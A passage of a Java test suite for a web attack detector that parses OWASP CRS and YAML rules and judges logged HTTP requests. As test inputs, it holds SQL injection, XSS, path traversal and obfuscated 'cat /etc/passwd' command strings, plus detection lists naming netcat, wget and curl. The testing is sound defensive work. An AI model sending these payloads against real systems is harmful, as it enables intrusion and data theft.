            + "severity:'CRITICAL',tag:'attack-lfi',tag:'OWASP_CRS',tag:'paranoia-level/1'\"",
        "SecRule ARGS \"@contains union\" \"id:10003,phase:2,block,severity:'CRITICAL',"
            + "tag:'attack-sqli',tag:'OWASP_CRS',tag:'paranoia-level/1'\"",
        "SecRule REQUEST_FILENAME \"@contains script\" \"id:10004,phase:2,block,"
            + "severity:'CRITICAL',tag:'attack-xss',tag:'xss-perf-disable',"
            + "tag:'paranoia-level/1'\"", ""));
    RuleSet rs = RuleSet.parse(List.of(exclusions, rules));
    assertThat(rs.skipped().get(CrsRules.APPLIED)).containsExactly("2000", "2008", "2001",
        "2003", "2004", "2005", "2006", "2007");
    assertThat(rs.skipped()).doesNotContainKey(CrsRules.UNNAMED);
    assertThat(rs.skipped()).doesNotContainKey(CrsRules.NOT_APPLIED);
    Detector d = new Detector(rs);
    assertThat(d.judge(get("/c?JSON.a=script", "x", 200), "s").clean())
        .as("arguments named by a pattern, in any case").isTrue();
    assertThat(d.judge(get("/c?a.json=script", "x", 200), "s").ruleIds())
        .containsExactly("10001");
    Verdict reset = d.judge(get("/wp-login.php?action=resetpass&pass1=%3Cscript%3E", "x", 200),
        "s");
    assertThat(reset.clean()).isTrue();
    assertThat(reset.excused()).extracting(Verdict.Excused::allow)
        .as("named once, without entries for arguments the request does not have")
        .containsExactly("REQUEST-903.conf, rule 2000");
    assertThat(d.judge(get("/wp-login.php?ACTION=reset%70ass&pass1=script", "x", 200), "s")
        .clean()).as("a name in any case, a value decoded").isTrue();
    for (String other : new String[] {"/wp-login.php?action=resetpass&action=x&pass1=script",
        "/wp-login.php?action=login&pass1=script", "/wp-login.php?pass1=script",
        "/wp-login.php?action=resetpass&pass3=script", "/login?action=resetpass&pass1=script"}) {
      assertThat(d.judge(get(other, "x", 200), "s").ruleIds()).as(other)
          .containsExactly("10001");
    }
    assertThat(d.judge(get("/?q=union", "x", 200).withClientIp("127.0.0.1"), "s").clean())
        .isTrue();
    assertThat(d.judge(get("/?q=union", "x", 200), "s").ruleIds()).containsExactly("10003");
    assertThat(d.judge(get("/wp-admin/post.php?page=editor&q=union", "x", 200), "s").clean())
        .as("in the section, a range of ids").isTrue();
    assertThat(d.judge(get("/wp-admin/post.php?page=list&q=union", "x", 200), "s").ruleIds())
        .containsExactly("10003");
    assertThat(d.judge(get("/blog?page=editor&q=union", "x", 200), "s").ruleIds())
        .as("outside the section").containsExactly("10003");
    assertThat(d.judge(get("/script", "x", 200), "s").clean())
        .as("a tag only an exclusion names is kept").isTrue();
    assertThat(d.judge(get("/script%3C", "x", 200), "s").ruleIds()).containsExactly("10004");
    // a condition on a cookie, where the log holds the Cookie header
    assertThat(d.judge(withCookie(get("/?q=script", "x", 200), "a=1; wp=xyz"), "s").clean())
        .isTrue();
    assertThat(d.judge(withCookie(get("/?q=script", "x", 200), "wp=abc"), "s").ruleIds())
        .containsExactly("10001");
    assertThat(d.judge(get("/?q=script", "x", 200), "s").ruleIds()).containsExactly("10001");
  }

  /** {@code r} from a log that holds its Cookie header, with {@code cookie} in it. */
  static Request withCookie(Request r, String cookie) {
    return new Request(r.epochMillis(), r.clientIp(), r.host(), r.method(), r.target(),
        r.protocol(), r.status(), r.bytes(), r.referer(), r.userAgent(), r.forwardedFor(),
        r.headers(), List.of(new HeaderField("cookie", cookie)));
  }

  /**
   * A header a CRS rule leaves out is not read: 930100 and 930110 read every header but the
   * Referer, which holds other sites' paths ({@code https://a.example/b/../c}).
   */
  @Test
  void headersARuleLeavesOutAreNotRead() {
    Detector d = new Detector(RuleSet.parse(List.of(new RuleFile("c.conf", String.join("\n",
        "SecRule REQUEST_URI|REQUEST_HEADERS|!REQUEST_HEADERS:Referer \"@contains ../\" "
            + "\"id:930110,phase:2,block,severity:'CRITICAL',tag:'attack-lfi',"
            + "tag:'paranoia-level/1'\"", "")))));
    Request referred = new Request(0, "192.0.2.1", null, "GET", "/p", "HTTP/1.1", 200, 1,
        "https://a.example/b/../c", "x", null);
    assertThat(d.judge(referred, "s").clean()).isTrue();
    assertThat(d.judge(get("/p", "x/../y", 200), "s").ruleIds()).containsExactly("930110");
    assertThat(d.judge(get("/a/../p", "x", 200), "s").ruleIds()).containsExactly("930110");
  }

  /** An allow entry names CRS ids by range, as ctl:ruleRemoveById does; never Evident's own. */
  @Test
  void anAllowEntryNamesARangeOfCrsIds() {
    RuleSet rs = RuleSet.parse(List.of(new RuleFile("c.conf", String.join("\n",
        "SecRule ARGS \"@contains union\" \"id:942100,phase:2,block,severity:'CRITICAL',"
            + "tag:'attack-sqli',tag:'paranoia-level/1'\"",
        "SecRule ARGS \"@contains select\" \"id:942200,phase:2,block,severity:'CRITICAL',"
            + "tag:'attack-sqli',tag:'paranoia-level/1'\"", "")),
        new RuleFile("t.yaml", """
            rules:
              - {id: EV-942150, class: sqli, msg: t, targets: [args], rx: union}
            allow:
              - {rule: 942100-942199, path: ^/search}
              - {rule: 942150-942160, path: ^/search}
            """)));
    Detector d = new Detector(rs);
    assertThat(d.judge(get("/search?q=union+select", "x", 200), "s").ruleIds())
        .containsExactlyInAnyOrder("942200", "EV-942150");
    assertThat(d.judge(get("/other?q=union", "x", 200), "s").ruleIds())
        .containsExactlyInAnyOrder("942100", "EV-942150");
  }

  /** A step that changes only characters beyond ASCII is skipped for ASCII values alone. */
  @Test
  void aStepForCharactersBeyondAsciiRunsOnThem() {
    Detector d = new Detector(RuleSet.parse(List.of(new RuleFile("t.yaml", """
        rules:
          - {id: T-U, class: xss, msg: t, targets: [args], transforms: [urlDecodeUni,
             utf8toUnicode], rx: 'caf%u00e9', prefilter: ['%u00e9']}
        """))));
    assertThat(d.judge(get("/p?q=caf%C3%A9", "x", 200), "s").ruleIds()).containsExactly("T-U");
    assertThat(d.judge(get("/p?q=cafe%00", "x", 200), "s").clean()).isTrue();
    assertThat(d.judge(get("/p?q=caf%25u00e9x", "x", 200), "s").ruleIds())
        .as("typed as such").containsExactly("T-U");
  }

  @Test
  void valuesWithTheSameHashAreJudgedEachOnTheirOwn() {
    // "Aa" and "BB" hash alike, so these four share one set of the value cache (two ways):
    // taking turns, they evict each other, and each must still get its own verdict
    String[] values = {"AaAa", "AaBB", "BBAa", "BBBB"};
    assertThat(java.util.Arrays.stream(values).mapToInt(String::hashCode).distinct()).hasSize(1);
    Detector d = new Detector(RuleSet.parse(List.of(new RuleFile("t.yaml", """
        rules:
          - {id: T-2, class: sqli, msg: t, targets: [args], rx: '^BB', prefilter: [bb]}
        """))));
    for (int round = 0; round < 3; round++) {
      for (String v : values) {
        assertThat(d.judge(get("/p?q=" + v, "x", 200), "s").attack()).as(v)
            .isEqualTo(v.startsWith("BB"));
      }
    }
  }

  @Test
  void foldedPrefilterLetsEvasionsThrough() {
    // the letters of "cat" may have quotes, backslashes or $VAR between them (as in CRS's
    // command rules): the prefilter reads the value without those, or runs the rule on any $
    Detector d = new Detector(RuleSet.parse(List.of(new RuleFile("t.yaml", """
        rules:
          - {id: T-3, class: rce, msg: t, targets: [args], transforms: [urlDecodeUni],
             rx: 'c["''\\\\]*(?:\\$[@a-z]*)?a["''\\\\]*t /'}
        """))));
    assertThat(d.rule("T-3").prefilter()).containsExactly(RegexLiterals.FOLDED + "cat /");
    for (String attack : new String[] {"cat%20/etc/passwd", "c%27a%27t%20/etc/passwd",
        "c%5Ca%22t%20/etc/passwd", "c$@at%20/etc/passwd", "%22c$@a%27t%20/x"}) {
      assertThat(d.judge(get("/p?q=" + attack, "x", 200), "s").attack()).as(attack).isTrue();
    }
    for (String benign : new String[] {"category", "c%27a", "cat%27s", "$5%20cat"}) {
      assertThat(d.judge(get("/p?q=" + benign, "x", 200), "s").attack()).as(benign).isFalse();
    }
  }

  @Test
  void pastTheRegexBudgetScreensDecideForThatRequestOnly() {
    // "(?m)ab$": the screen widens the multi-line anchor, so it lets "abc" through and RE2/J
    // says no
    RuleSet rs = RuleSet.parse(List.of(new RuleFile("t.yaml", """
        rules:
          - {id: T-6, class: sqli, msg: t, targets: [args], rx: '(?m)ab$'}
        """)));
    Detector d = new Detector(rs, Detector.DEFAULT_THRESHOLD, 1, 1, 6);
    assertThat(d.judge(get("/p?a=abcxyz", "x", 200), "s").attack()).as("within budget").isFalse();
    // a takes the whole budget: b is then decided by the screen, which cannot rule it out
    Verdict spent = d.judge(get("/p?a=abcxyw&b=abc", "x", 200), "s");
    assertThat(spent.matches()).extracting(Match::target, Match::fragment)
        .containsExactly(org.assertj.core.groups.Tuple.tuple("args:b", "abc"));
    assertThat(d.judge(get("/p?a=zzzzzzzzzzzz&b=xyz", "x", 200), "s").attack())
        .as("what the screen rules out stays clean").isFalse();
    // the screened verdict was not kept: b alone, within budget, is judged by RE2/J again
    assertThat(d.judge(get("/p?b=abc", "x", 200), "s").attack()).isFalse();
    assertThat(new Detector(rs).judge(get("/p?a=abcxyw&b=abc", "x", 200), "s").attack())
        .as("the default budget").isFalse();
  }

  /**
   * Agents one thread found clean are taken as clean by the others without judging them again;
   * an agent that matched is judged by each thread, and matches there too.
   */
  @Test
  void anAgentJudgedByOneThreadIsJudgedAlikeByAnother() throws Exception {
    Detector d = new Detector(RuleSet.parse(List.of(new RuleFile("t.yaml", """
        rules:
          - {id: T-A, class: scanner, msg: t, targets: [user_agent], rx: 'sqlmap/\\d',
             prefilter: [sqlmap]}
        """))));
    String tool = "sqlmap/1.5 (https://sqlmap.org)";
    String browser = "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0";
    assertThat(d.judge(get("/a", tool, 200), "s").ruleIds()).containsExactly("T-A");
    assertThat(d.judge(get("/a", browser, 200), "s").clean()).isTrue();
    List<Verdict> other = new ArrayList<>();
    Thread t = new Thread(() -> {
      Detector.ThreadJudge judge = d.forThisThread();
      for (int i = 0; i < 2; i++) {
        other.add(judge.judge(get("/b", tool, 200), "s"));
        other.add(judge.judge(get("/b", browser, 200), "s"));
      }
    });
    t.start();
    t.join();
    assertThat(other).extracting(Verdict::ruleIds).containsExactly(List.of("T-A"), List.of(),
        List.of("T-A"), List.of());
  }

  @Test
  void anchoredLiteralsAreFoundOnlyAtTheTextsEnds() {
    // the prefilter reads "w" + end of text and start of text + "id=": it must find them there
    Detector d = new Detector(RuleSet.parse(List.of(new RuleFile("t.yaml", """
        rules:
          - {id: T-4, class: rce, msg: t, targets: [args], rx: '(?:whoami|w)$'}
          - {id: T-5, class: rce, msg: t, targets: [args], rx: '^id='}
        """))));
    assertThat(d.rule("T-4").prefilter()).hasSize(2).allMatch(l -> l.endsWith(
        String.valueOf(RegexLiterals.TEXT_END)));
    for (String v : new String[] {"w", "a;w", "x;whoami", "id=1", "id=w"}) {
      assertThat(d.judge(get("/p?q=" + v, "x", 200), "s").attack()).as(v).isTrue();
    }
    for (String v : new String[] {"wx", "www.example", "pid=1", "Windows"}) {
      assertThat(d.judge(get("/p?q=" + v, "x", 200), "s").attack()).as(v).isFalse();
    }
  }

  @Test
  void aRepeatedRequestLineIsJudgedAsTheFirstTime() {
    // T-8 reads the request line and the agent: judged in one pass, the agent comes first, and
    // a request answered from the line cache must keep that order and judge its own agent
    Detector d = new Detector(RuleSet.parse(List.of(new RuleFile("t.yaml", """
        rules:
          - {id: T-7, class: sqli, msg: t, targets: [args], rx: 'union'}
          - {id: T-8, class: scanner, msg: t, severity: warning, targets: [request_line,
             user_agent], rx: 'probe'}
          - {id: T-9, class: rce, msg: t, targets: [method], rx: '^TRACE$'}
          - {id: T-10, class: traversal, msg: t, targets: [path], rx: 'admin', status: [404]}
        """))));
    String target = "/probe?q=union";
    for (int round = 0; round < 2; round++) {
      assertThat(d.judge(get(target, "probe-bot", 200), "s").matches())
          .extracting(Match::ruleId, Match::target).as("round %d", round).containsExactly(
              org.assertj.core.groups.Tuple.tuple("T-7", "args:q"),
              org.assertj.core.groups.Tuple.tuple("T-8", "user_agent"));
      assertThat(d.judge(get(target, "Mozilla/5.0", 200), "s").matches())
          .extracting(Match::ruleId, Match::target).containsExactly(
              org.assertj.core.groups.Tuple.tuple("T-7", "args:q"),
              org.assertj.core.groups.Tuple.tuple("T-8", "request_line"));
      assertThat(d.judge(get("/a", "Mozilla/5.0", 200), "s").matches()).isEmpty();
      // the same target with another method or status is another line
      Request trace = new Request(0, "192.0.2.1", null, "TRACE", "/a", "HTTP/1.1", 200, 1,
          null, "x", null);
      assertThat(d.judge(trace, "s").ruleIds()).containsExactly("T-9");
      assertThat(d.judge(get("/admin", "x", 404), "s").ruleIds()).containsExactly("T-10");
      assertThat(d.judge(get("/admin", "x", 200), "s").matches()).isEmpty();
    }
  }

  @Test
  void aMatchTheScreenIsSureOfHasRe2sFragmentWhenAsked() {
    // exact and ASCII: the screen's YES decides, and RE2/J runs only when the fragment is read
    String rx = "\\bunion\\s+select\\b";
    assertThat(DfaScreen.of(rx).test("1 union  select 2")).isEqualTo(DfaScreen.YES);
    Detector d = new Detector(RuleSet.parse(List.of(new RuleFile("t.yaml", """
        rules:
          - {id: T-11, class: sqli, msg: t, targets: [args], transforms: [urlDecodeUni],
             rx: '%s'}
        """.formatted(rx)))));
    for (String arg : new String[] {"id", "q", "id"}) { // the last from the value cache
      assertThat(d.judge(get("/p?" + arg + "=1%20union%20%20select%202", "x", 200), "s")
          .matches()).containsExactly(
              new Match("T-11", "sqli", Severity.CRITICAL, "args:" + arg, "union  select"));
    }
  }

  @Test
  void matchesNameTheArgumentTheyWereFoundIn() {
    String payload = "1%27%20union%20select%20password%20from%20users--";
    // the same value in two arguments: the second is answered from the per-value cache
    for (String arg : new String[] {"a", "b", "a"}) {
      Verdict v = detector.judge(get("/p?x=1&" + arg + "=" + payload, "x", 200), "s");
      assertThat(v.matches()).isNotEmpty().allSatisfy(m ->
          assertThat(m.target()).isEqualTo("args:" + arg));
    }
    assertThat(detector.judge(get("/p/" + payload, "x", 200), "s").matches())
        .extracting(Match::target).containsOnly("path");
  }

  @Test
  void allowListsAndDisablingWork() throws IOException {
    List<RuleFile> files = new ArrayList<>(builtIn());
    files.add(new RuleFile("local.yaml", "disable: [EV-950100]\nallow:\n"
        + "  - {rule: EV-930100, path: '^/docs/', site: docs.example}\n"
        + "  - {source: 192.0.2.0/24, rule: EV-941100}\n"));
    Detector d = new Detector(RuleSet.parse(files));
    assertThat(d.judge(get("/.env", "x", 404), "s").attack()).isFalse();
    Request traversal = get("/docs/../x", "x", 200);
    assertThat(d.judge(traversal, "docs.example").attack()).isFalse();
    assertThat(d.judge(traversal, "other.example").attack()).isTrue();
    assertThat(d.judge(get("/s?q=%3Cscript%3E", "x", 200), "s").ruleIds())
        .doesNotContain("EV-941100");
  }

  @Test
  void paranoiaLevelsAddRules() {
    RuleSet rs = RuleSet.parse(List.of(new RuleFile("p.yaml", "rules:\n"
        + "  - {id: P1, class: x, targets: [path], contains: /a}\n"
        + "  - {id: P2, class: x, paranoia: 2, targets: [path], contains: /a}\n")));
    Request r = get("/a", "x", 200);
    assertThat(new Detector(rs).judge(r, "s").ruleIds()).containsExactly("P1");
    assertThat(new Detector(rs, 5, 2).judge(r, "s").ruleIds()).containsExactly("P1", "P2");
    assertThat(new Detector(rs, 10, 2).judge(r, "s").attack()).isTrue();
    assertThat(new Detector(rs, 11, 2).judge(r, "s").attack()).as("below threshold").isFalse();
    assertThatThrownBy(() -> new Detector(rs, 5, 5)).hasMessageContaining("1 to 4");
    assertThatThrownBy(() -> RuleSet.parse(List.of(new RuleFile("q.yaml",
        "rules:\n  - {id: Q, class: x, paranoia: 9, targets: [path], contains: a}\n"))))
        .hasMessageContaining("paranoia");
  }

  /**
   * Chains that turn a value into equal texts (two decoders, each its own copy) share one scan
   * of it, and each chain's rules still run: the second on its copy, the third on the second's
   * own instance.
   */
  @Test
  void chainsMakingEqualTextsEachRunTheirRules() {
    RuleSet rs = RuleSet.parse(List.of(new RuleFile("e.yaml", "rules:\n"
        + "  - {id: E1, class: x, targets: [args], transforms: [urlDecodeUni], contains: abc}\n"
        + "  - {id: E2, class: x, targets: [args], transforms: [urlDecode], contains: abc}\n"
        + "  - {id: E3, class: x, targets: [args], transforms: [urlDecode, removeNulls],"
        + " rx: 'a.c'}\n"
        + "  - {id: E4, class: x, targets: [args], transforms: [htmlEntityDecode],"
        + " contains: abc}\n")));
    Detector d = new Detector(rs);
    assertThat(d.judge(get("/s?q=%61bc", "x", 200), "s").ruleIds())
        .containsExactly("E1", "E2", "E3");
    assertThat(d.judge(get("/s?q=abc", "x", 200), "s").ruleIds())
        .containsExactly("E1", "E2", "E3", "E4");
  }

  /**
   * A step that two chains share behind different prefixes is computed once when the prefixes
   * leave the same text, and on each chain's own text when they do not.
   */
  @Test
  void aStepSharedByTwoChainsReadsEachChainsText() {
    RuleSet rs = RuleSet.parse(List.of(new RuleFile("s.yaml", "rules:\n"
        + "  - {id: S1, class: x, targets: [args], transforms: [urlDecodeUni, base64Decode],"
        + " contains: abc}\n"
        + "  - {id: S2, class: x, targets: [args], transforms: [removeComments, base64Decode],"
        + " contains: abc}\n")));
    Detector d = new Detector(rs);
    assertThat(d.judge(get("/s?q=YWJj", "x", 200), "s").ruleIds())
        .as("both prefixes leave YWJj: one decoding serves both").containsExactly("S1", "S2");
    assertThat(d.judge(get("/s?q=%2559WJj", "x", 200), "s").ruleIds())
        .as("only URL-decoding makes it Base64").containsExactly("S1");
    assertThat(d.judge(get("/s?q=YW/**/Jj", "x", 200), "s").ruleIds())
        .as("only removing the comment makes it Base64").containsExactly("S2");
  }

  /**
   * A {@code multiMatch} rule's variants judge a text once when they read equal texts (the
   * detector skips the repeats), yet each variant still judges a text the others did not see:
   * the URL-decoded value, or the value once its NUL is removed.
   */
  @Test
  void multiMatchVariantsJudgeEveryDistinctText() {
    // a pattern with no literal to prefilter on: every variant judges its text
    RuleSet rs = RuleSet.parse(List.of(new RuleFile("m.conf",
        "SecRule ARGS \"@rx ^[0-9]{3}$\" \"id:990001,phase:2,block,t:none,t:urlDecodeUni,"
        + "t:removeNulls,multiMatch,severity:'CRITICAL',tag:'attack-x',"
        + "tag:'paranoia-level/1'\"\n")));
    Detector d = new Detector(rs);
    assertThat(d.judge(get("/s?q=1%322", "x", 200), "s").ruleIds())
        .as("the raw text does not match, the decoded one does").containsExactly("990001");
    assertThat(d.judge(get("/s?q=12%003", "x", 200), "s").ruleIds())
        .as("only after the last step").containsExactly("990001");
    Verdict plain = d.judge(get("/s?q=123&r=456", "x", 200), "s");
    assertThat(plain.ruleIds()).as("one id however many variants matched")
        .containsExactly("990001");
    assertThat(plain.score()).isEqualTo(5);
    assertThat(d.judge(get("/s?q=1%3A2", "x", 200), "s").clean()).isTrue();
  }

  /**
   * A detection paranoia level above the paranoia level runs the rules in between without
   * scoring them: they are listed apart and change neither the score, the class, the tool nor
   * the verdict; below the paranoia level it is raised to it, as CRS's 901 does.
   */
  @Test
  void detectionParanoiaRunsRulesWithoutScoringThem() {
    RuleSet rs = RuleSet.parse(List.of(new RuleFile("p.yaml", "rules:\n"
        + "  - {id: P1, class: x, severity: warning, targets: [path], contains: /a}\n"
        + "  - {id: P2, class: y, paranoia: 2, targets: [path], contains: /a}\n"
        + "  - {id: P3, class: z, paranoia: 3, targets: [path], contains: /a}\n"
        + "  - {id: T2, tool: probe, paranoia: 2, targets: [path], contains: /b}\n")));
    Verdict v = new Detector(rs, 5, 1, 2).judge(get("/a", "x", 200), "s");
    assertThat(v.ruleIds()).containsExactly("P1");
    assertThat(v.unscored()).extracting(Match::ruleId).containsExactly("P2");
    assertThat(v.score()).isEqualTo(3);
    assertThat(v.attack()).isFalse();
    assertThat(v.attackClass()).isEqualTo("x");
    assertThat(v.unscoredScore()).isEqualTo(5);
    assertThat(new Detector(rs, 5, 1, 4).judge(get("/a", "x", 200), "s").unscored())
        .extracting(Match::ruleId).containsExactly("P2", "P3");
    Verdict onlyUnscored = new Detector(rs, 5, 1, 2).judge(get("/b", "x", 200), "s");
    assertThat(onlyUnscored.matches()).isEmpty();
    assertThat(onlyUnscored.tool()).as("an unscored rule names no tool").isNull();
    assertThat(onlyUnscored.clean()).isFalse();
    assertThat(new Detector(rs, 5, 1).judge(get("/b", "x", 200), "s").clean()).isTrue();
    Detector raised = new Detector(rs, 5, 3, 1);
    assertThat(raised.detectionParanoia()).isEqualTo(3);
    assertThat(raised.judge(get("/a", "x", 200), "s").unscored()).isEmpty();
    assertThatThrownBy(() -> new Detector(rs, 5, 1, 5)).hasMessageContaining("1 to 4");
  }

  @Test
  void ruleSetCarriesVersionAndHash() throws IOException {
    RuleSet rs = RuleSet.parse(builtIn());
    assertThat(rs.version()).contains("evident 2026.11.9");
    assertThat(rs.sha256()).hasSize(64);
    List<RuleFile> changed = new ArrayList<>(builtIn());
    changed.add(new RuleFile("x.yaml", "# nothing"));
    assertThat(RuleSet.parse(changed).sha256()).isNotEqualTo(rs.sha256());
  }

  /**
   * Each mistake a rule file can hold, and the message that names it. {@code <LF>} is a line
   * break. Unquoted 0x2f and 010 are numbers to YAML (a prefilter would wait for "47"); a
   * misspelt key would be read as absent (a rule run at every status, an allow entry excusing
   * every rule on its path); a bare id as an allow entry would excuse everything everywhere.
   */
  @ParameterizedTest(name = "{1}")
  @CsvSource(delimiter = '|', quoteCharacter = '"', value = {
      "rules:<LF>  - {id: X1, class: x, targets: [path], rx: '(a)\\1'}|t.yaml: rule X1: pattern"
          + " does not compile in RE2",
      "rules:<LF>  - {id: X2, class: x, targets: [body], rx: a}|unknown target 'body'",
      "rules: [|t.yaml: not valid YAML: expected the node content, but found '<stream end>' at"
          + " line 1, column 9",
      "rules:<LF>  - id: X0<LF>   bad: [|t.yaml: not valid YAML: expected <block end>, but found"
          + " '<block mapping start>' at line 3, column 4",
      "rules: 5|t.yaml: rules must be a list of rules",
      "rules: {id: X0, class: x, targets: [path], rx: a}|t.yaml: rules must be a list of rules",
      "allow: {rule: X0, path: ^/a}|t.yaml: allow must be a list of entries",
      "rules:<LF>  - {id: X3, class: x, targets: [path], rx: '0x2f', prefilter: [0x2f]}|rule X3:"
          + " prefilter entry 47 is not text",
      "rules:<LF>  - {id: X4, class: x, targets: [path], pm: [a, 010]}|pm entry 8 is not text",
      "rules:<LF>  - {id: X5, class: x, targets: [path], rx: a, statuses: [404]}|rule X5:"
          + " unknown key 'statuses'",
      "allow:<LF>  - {rules: X5, path: ^/a}|unknown key 'rules'",
      "disabled: [X5]|t.yaml: unknown key 'disabled'",
      "defaults: {transform: [lowercase]}|t.yaml: defaults: unknown key 'transform'",
      "allow: [EV-942100]|allow entry \"EV-942100\" names no condition",
      "allow: [{}]|allow entry {} names no condition",
      "disable: EV-942100|t.yaml: disable must be a list",
      "settings: 2|t.yaml: settings must be a mapping",
      "settings: {paranoia: 5}|t.yaml: settings: paranoia must be a whole number from 1 to 4",
      "settings: {paranoia: '2'}|paranoia must be a whole number from 1 to 4",
      "settings: {threshold: 0}|threshold must be a whole number from 1 to 1000",
      "settings: {threshold: 2.5}|threshold must be a whole number from 1 to 1000",
      "settings: {detection_paranoia: 0}|detection_paranoia must be a whole number from 1 to 4",
      "settings: {paranoia_level: 2}|t.yaml: settings: unknown key 'paranoia_level'"})
  void badRuleFilesAreExplained(String text, String message) {
    assertThatThrownBy(() -> RuleSet.parse(List.of(new RuleFile("t.yaml",
        text.replace("<LF>", "\n"))))).hasMessageContaining(message);
  }

  /**
   * Scoring settings: the last file that names each wins; CRS's own files set its defaults
   * (901: paranoia 1, threshold 5), and a crs-setup.conf read before them sets the site's; a
   * YAML file's settings win over CRS's.
   */
  @Test
  void scoringSettingsComeFromTheRuleFiles() throws IOException {
    RuleFile a = new RuleFile("a.yaml", "settings: {paranoia: 2, threshold: 7}");
    RuleFile b = new RuleFile("b.yaml", "settings: {threshold: 4, detection_paranoia: 3}");
    RuleSet both = RuleSet.parse(List.of(a, b));
    assertThat(both.paranoia()).isEqualTo(2);
    assertThat(both.threshold()).isEqualTo(4);
    assertThat(both.detectionParanoia()).isEqualTo(3);
    RuleSet none = RuleSet.parse(List.of(new RuleFile("c.yaml", "rules: []")));
    assertThat(none.paranoia()).isNull();
    assertThat(none.threshold()).isNull();
    assertThat(none.detectionParanoia()).isNull();

    Path init = Path.of("../../shared/crs/rules/REQUEST-901-INITIALIZATION.conf");
    RuleFile crs901 = new RuleFile(init.toString(), Files.readString(init));
    RuleSet defaults = RuleSet.parse(List.of(crs901));
    assertThat(defaults.paranoia()).isEqualTo(1);
    assertThat(defaults.threshold()).isEqualTo(5);
    assertThat(defaults.detectionParanoia()).as("901's default is the paranoia level").isNull();
    RuleFile setup = new RuleFile("crs-setup.conf", "SecAction \"id:900000,phase:1,pass,"
        + "nolog,setvar:tx.blocking_paranoia_level=3\"\nSecAction \"id:900110,phase:1,pass,"
        + "nolog,setvar:tx.inbound_anomaly_score_threshold=10\"\n");
    RuleSet site = RuleSet.parse(List.of(setup, crs901));
    assertThat(site.paranoia()).isEqualTo(3);
    assertThat(site.threshold()).isEqualTo(10);
    RuleFile detect = new RuleFile("crs-setup.conf", "SecAction \"id:900001,phase:1,pass,"
        + "nolog,setvar:tx.detection_paranoia_level=2\"\n");
    assertThat(RuleSet.parse(List.of(detect, crs901)).detectionParanoia()).isEqualTo(2);
    RuleFile crs3 = new RuleFile("crs-setup.conf", "SecAction \"id:900001,phase:1,pass,"
        + "nolog,setvar:tx.executing_paranoia_level=4\"\n");
    assertThat(RuleSet.parse(List.of(crs3)).detectionParanoia()).as("CRS 3's name")
        .isEqualTo(4);
    assertThat(RuleSet.parse(List.of(setup, crs901, b)).threshold()).as("YAML over CRS")
        .isEqualTo(4);
  }

  /**
   * Rules that read the same {@code @pmFromFile} files share one automaton, built once (CRS 4:
   * lfi-os-files.data, unix-shell.data); a rule naming a file that is not there is reported as
   * not compiling and the rest load.
   */
  @Test
  void phraseFilesBuildOneAutomatonPerList() {
    String rule = "SecRule ARGS \"@pmFromFile %s\" \"id:%s,phase:2,block,"
        + "tag:'paranoia-level/1',tag:'attack-rce',severity:'CRITICAL'\"\n";
    RuleSet set = RuleSet.parse(List.of(
        new RuleFile("words.data", "# comment\nnetcat\n\nwget\n"),
        new RuleFile("more.data", "curl\n"),
        new RuleFile("r.conf", rule.formatted("words.data", "1001")
            + rule.formatted("words.data", "1002") + rule.formatted("words.data more.data", "1003")
            + rule.formatted("gone.data", "1004"))));
    Map<String, Rule> byId = new java.util.HashMap<>();
    set.rules().forEach(r -> byId.put(r.id(), r));
    assertThat(byId).containsOnlyKeys("1001", "1002", "1003");
    assertThat(byId.get("1002").operator()).isSameAs(byId.get("1001").operator());
    assertThat(byId.get("1003").operator()).isNotSameAs(byId.get("1001").operator());
    assertThat(byId.get("1001").operator().find("a=wget x")).isEqualTo("wget");
    assertThat(byId.get("1001").operator().find("a=curl x")).isNull();
    assertThat(byId.get("1003").operator().find("a=curl x")).isEqualTo("curl");
    assertThat(set.skipped().values()).anySatisfy(ids -> assertThat(ids).contains("1004"));
    assertThat(set.skipped().keySet()).anySatisfy(reason ->
        assertThat(reason).contains("gone.data"));
  }

  @Test
  void workPerRequestIsBounded() {
    String pad = "a".repeat(Detector.MAX_VALUE_CHARS);
    assertThat(detector.judge(get("/s?q=%3Cscript%3E" + pad, "x", 200), "s").attack()).isTrue();
    assertThat(detector.judge(get("/s?q=" + pad + "%3Cscript%3E", "x", 200), "s").attack())
        .as("judged on the first %d characters only", Detector.MAX_VALUE_CHARS).isFalse();
    String many = "/s?" + "a=1&".repeat(RequestTargets.MAX_ARGS);
    assertThat(detector.judge(get(many + "b=%3Cscript%3E", "x", 200), "s").attack())
        .as("arguments past the first %d are not split out", RequestTargets.MAX_ARGS).isFalse();
    assertThat(detector.judge(get("/s?b=%3Cscript%3E&" + many, "x", 200), "s").attack()).isTrue();
  }

  @Test
  void hostileInputStaysLinear() {
    String bait = "/?q=" + "'".repeat(20_000) + "a".repeat(200_000) + "%25".repeat(10_000);
    long t0 = System.nanoTime();
    detector.judge(get(bait, "(".repeat(50_000), 200), "s");
    // no timing assertion (tests never assert timings); this line must simply return
    assertThat(System.nanoTime() - t0).isPositive();
  }

  /** docs/rules.md names every operator, transformation and target, and its example loads. */
  @Test
  void theRuleFileReferenceIsComplete() throws IOException {
    String doc = Files.readString(Path.of("../docs/rules.md"));
    String lower = doc.toLowerCase(java.util.Locale.ROOT);
    for (String op : Operators.names()) {
      assertThat(lower).as("operator " + op).contains("`" + op + "`");
    }
    for (String t : Transformations.names()) {
      assertThat(doc).as("transformation " + t).contains("`" + t + "`");
    }
    for (Target t : Target.values()) {
      assertThat(doc).as("target " + t).contains("`" + t.label() + "`");
    }
    int from = doc.indexOf("```yaml") + 7;
    String yaml = doc.substring(from, doc.indexOf("```", from));
    RuleSet rs = RuleSet.parse(List.of(new RuleFile("local.yaml", yaml)));
    assertThat(rs.rules()).extracting(Rule::id).containsExactly("LOCAL-1000", "LOCAL-1001");
    assertThat(rs.allows()).extracting(Allow::tag).containsExactly(null, null, "attack-rce",
        "OWASP_CRS", null, null, null);
    assertThat(rs.allows()).extracting(Allow::inPath)
        .containsExactly(false, false, false, false, true, false, false);
    assertThat(rs.allows()).extracting(Allow::inCookie)
        .containsExactly(false, false, false, false, false, true, false);
    assertThat(rs.allows()).extracting(Allow::inHeader, Allow::arg).last()
        .isEqualTo(tuple(true, "user-agent"));
  }
}
